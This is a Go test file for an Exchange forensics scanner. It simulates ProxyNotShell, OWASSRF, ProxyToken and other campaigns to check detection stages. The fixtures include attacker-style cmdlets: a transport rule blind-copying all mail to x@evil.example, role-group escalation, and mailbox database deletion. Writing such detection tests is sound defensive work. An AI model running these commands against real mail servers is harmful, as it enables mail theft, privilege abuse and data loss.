package main

import (
	"fmt"
	"os"
	"slices"
	"strconv"
	"testing"

	"github.com/athar-forensics/athar"
	"github.com/athar-forensics/athar/internal/forge"
)

// seeds is how many stories a drawn scenario is told with: a few, or as many as
// ATHAR_SEEDS says.
func seeds(t *testing.T) uint64 {
	t.Helper()
	if n, err := strconv.ParseUint(os.Getenv("ATHAR_SEEDS"), 10, 16); err == nil {
		return n
	}
	return 2
}

// life is three days of a server that was installed at their beginning.
func life(s *story, build string, from athar.Time) *forge.Host {
	h := s.server("MAIL01", build)
	h.Installed(from)
	h.WebRoot(from + 10*athar.Minute)
	quiet(h, from+20*athar.Minute, from+3*athar.Day)
	return h
}

// One story a campaign and stage, each with its failed twin on a server that was
// updated, or in the other campaign's time.
func TestScenarioCampaigns(t *testing.T) {
	t.Parallel()
	october, december := on(2022, 10, 18, 6, 0, 0), on(2022, 12, 1, 6, 0, 0)
	march, august := on(2020, 3, 2, 6, 0, 0), on(2021, 8, 17, 6, 0, 0)
	thief := forge.Visitor{Address: "203.0.113.80", Agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36"}
	for _, c := range []struct {
		name, build string
		from        athar.Time
		tell        func(*forge.Host, athar.Time)
		campaign    string
		stage       athar.Stage
		account     string // named by a finding of the campaign
	}{
		{
			"ProxyNotShell", "15.1.2507.13", october,
			func(h *forge.Host, at athar.Time) {
				h.ProxyNotShell(forge.SignedIn{At: at, From: thief, Account: "amal@example.test", Status: 200})
			},
			"proxynotshell", athar.Accessed, `CORP\amal`,
		},
		{
			"ProxyNotShell against an updated server", "15.1.2507.16", december,
			func(h *forge.Host, at athar.Time) {
				h.ProxyNotShell(forge.SignedIn{At: at, From: thief, Account: "amal@example.test", Status: 401})
			},
			"proxynotshell", athar.Attempted, `CORP\amal`,
		},
		{
			"ProxyNotShell, and then the account is given power", "15.1.2507.13", october,
			func(h *forge.Host, at athar.Time) {
				at = h.ProxyNotShell(forge.SignedIn{At: at, From: thief, Account: "amal@example.test", Status: 200})
				h.Cmdlets(at+athar.Minute, "amal@example.test", []string{"Add-RoleGroupMember", "Identity", "Organization Management", "Member", "helpdesk2"})
			},
			"proxynotshell", athar.Expanded, `CORP\amal`,
		},
		{
			"ProxyNotShell, and then a rule that copies all mail", "15.1.2507.13", october,
			func(h *forge.Host, at athar.Time) {
				at = h.ProxyNotShell(forge.SignedIn{At: at, From: thief, Account: "amal@example.test", Status: 200})
				h.Cmdlets(at+athar.Minute, "amal@example.test", []string{"New-TransportRule", "Name", "all", "BlindCopyTo", "x@evil.example"})
			},
			"proxynotshell", athar.Implanted, `CORP\amal`,
		},
		{
			"OWASSRF", "15.1.2507.13", december,
			func(h *forge.Host, at athar.Time) {
				h.OWASSRF(forge.SignedIn{At: at, From: thief, Account: "carla@example.test", Status: 200})
			},
			"owassrf", athar.Accessed, `CORP\carla`,
		},
		{
			"OWASSRF, and then databases are removed", "15.1.2507.13", december,
			func(h *forge.Host, at athar.Time) {
				at = h.OWASSRF(forge.SignedIn{At: at, From: thief, Account: "carla@example.test", Status: 200})
				h.Cmdlets(at+athar.Minute, "carla@example.test", []string{"Remove-MailboxDatabase", "Identity", "DB01", "Confirm", "False"})
			},
			"owassrf", athar.Impacted, `CORP\carla`,
		},
		{
			"OWASSRF against an updated server", "15.1.2507.16", december,
			func(h *forge.Host, at athar.Time) {
				h.OWASSRF(forge.SignedIn{At: at, From: thief, Account: "carla@example.test", Status: 401})
			},
			"owassrf", athar.Attempted, "",
		},
		{
			"ProxyToken", "15.1.2176.9", august,
			func(h *forge.Host, at athar.Time) {
				h.ProxyToken(forge.ProxyToken{At: at, From: intruder, Victim: "dunya@example.test", Drop: "x@evil.example"})
			},
			"proxytoken", athar.Implanted, "dunya@example.test",
		},
		{
			"ProxyToken refused", "15.1.2308.14", august,
			func(h *forge.Host, at athar.Time) {
				h.ProxyToken(forge.ProxyToken{At: at, From: intruder, Victim: "dunya@example.test", Drop: "x@evil.example", Refused: 500})
			},
			"proxytoken", athar.Attempted, "",
		},
		{
			"forged page state", "15.1.1847.3", march,
			func(h *forge.Host, at athar.Time) { h.ForgedViewState(at, intruder, "erik@example.test") },
			"viewstate", athar.Attempted, `CORP\erik`,
		},
		{
			"the calendar path of April 2021", "15.1.2176.9", on(2021, 4, 20, 6, 0, 0),
			func(h *forge.Host, at athar.Time) { h.CalendarPath(at, intruder, 500) },
			"cve-2021-28480", athar.Attempted, "",
		},
		{
			"a stored configuration", "15.1.2375.12", on(2021, 11, 10, 6, 0, 0),
			func(h *forge.Host, at athar.Time) { h.StoredConfiguration(at, intruder, "farah@example.test", 500) },
			"cve-2021-42321", athar.Attempted, "farah@example.test",
		},
		{
			"relayed sign-ins", "15.1.2507.37", on(2024, 3, 20, 6, 0, 0),
			func(h *forge.Host, at athar.Time) {
				h.RelayedSignIns(at, forge.Visitor{Address: "192.0.2.77", Agent: "python-requests/2.31.0"}, "amal@example.test", "bashir@example.test", "carla@example.test")
			},
			"ntlm-relay", athar.Accessed, `CORP\bashir`,
		},
		{
			"mail read without a file", "15.1.2176.2", on(2021, 3, 1, 6, 0, 0),
			func(h *forge.Host, at athar.Time) {
				h.StealMail(forge.ProxyLogon{At: at, From: intruder}, nil, 40, "amal@example.test")
			},
			"proxylogon", athar.Exfiltrated, "",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for seed := range seeds(t) {
				s := newStory(t, 700+seed)
				c.tell(life(s, c.build, c.from), c.from+26*athar.Hour+athar.Time(seed)*17*athar.Minute)
				srv := scan(t, s.pack()).only()
				wantStage(t, srv, c.stage)
				if got := incident(t, srv, c.campaign).Stage; got != c.stage {
					t.Errorf("seed %d: %s is at %v, want %v\n%s", seed, c.campaign, got, c.stage, told(srv))
				}
				if attacked := srv.Answers.Attacked.Answer; attacked != athar.Yes {
					t.Errorf("seed %d: attacked = %s", seed, attacked)
				}
				if c.account != "" && !namesAccount(srv, c.campaign, c.account) {
					t.Errorf("seed %d: no finding of %s names %s\n%s", seed, c.campaign, c.account, told(srv))
				}
				for _, in := range srv.Incidents {
					if in.Campaign != c.campaign && in.Stage >= athar.Attempted {
						t.Errorf("seed %d: %s is at %v too\n%s", seed, in.Campaign, in.Stage, told(srv))
					}
				}
			}
		})
	}
}

func namesAccount(s *athar.Server, campaign, account string) bool {
	return slices.ContainsFunc(s.Findings, func(f athar.Finding) bool {
		return f.Campaign == campaign && slices.Contains(f.Account, account)
	})
}

// Healthy years in small: what people, products and administrators do, on servers
// of every line, with the flaws of their time open. Nothing reaches "attempted".
func TestScenarioHealthyLookAlikes(t *testing.T) {
	t.Parallel()
	for seed := range seeds(t) {
		t.Run(fmt.Sprint("seed ", seed), func(t *testing.T) {
			t.Parallel()
			s := newStory(t, 900+seed)
			line := []struct {
				build string
				from  athar.Time
			}{{"15.1.1847.3", on(2020, 3, 2, 0, 0, 0)}, {"15.1.2507.13", on(2022, 12, 5, 0, 0, 0)}, {"15.2.1544.9", on(2024, 4, 8, 0, 0, 0)}, {"15.0.1497.40", on(2022, 10, 3, 0, 0, 0)}}[seed%4]
			h := s.server("MAIL01", line.build)
			h.Installed(line.from)
			h.Healthy(forge.Traffic{From: line.from, Until: line.from + 5*athar.Day, PerHour: 25, Probe: 2 * athar.Hour, LookAlikes: true})
			h.Backup(line.from, line.from+5*athar.Day, 40)
			admin := "admin.noor@example.test"
			h.Cmdlets(line.from+33*athar.Hour, admin,
				[]string{"Set-Mailbox", "Identity", "salim@example.test", "ForwardingSmtpAddress", "smtp:successor@example.test"},
				[]string{"New-TransportRule", "Name", "archive", "BlindCopyTo", "archive@example.test"},
				[]string{"Add-RoleGroupMember", "Identity", "Organization Management", "Member", "bashir"},
				[]string{"Remove-Mailbox", "Identity", "leaver@example.test", "Confirm", "False"},
				[]string{"New-ManagementRoleAssignment", "Role", "ApplicationImpersonation", "User", "svc.backup"},
				[]string{"Install-TransportAgent", "Name", "Signature", "AssemblyPath", `C:\Program Files\Example\agent.dll`},
				[]string{"Set-Mailbox", "Identity", "salim@example.test", "AuditEnabled", "False"},
			)
			v := scan(t, s.pack())
			nothingFrom(t, v.only(), athar.Attempted)
			if len(byRule(v.only(), "transport-agent")) != 1 {
				t.Errorf("the transport agent is no lead\n%s", told(v.only()))
			}
		})
	}
}
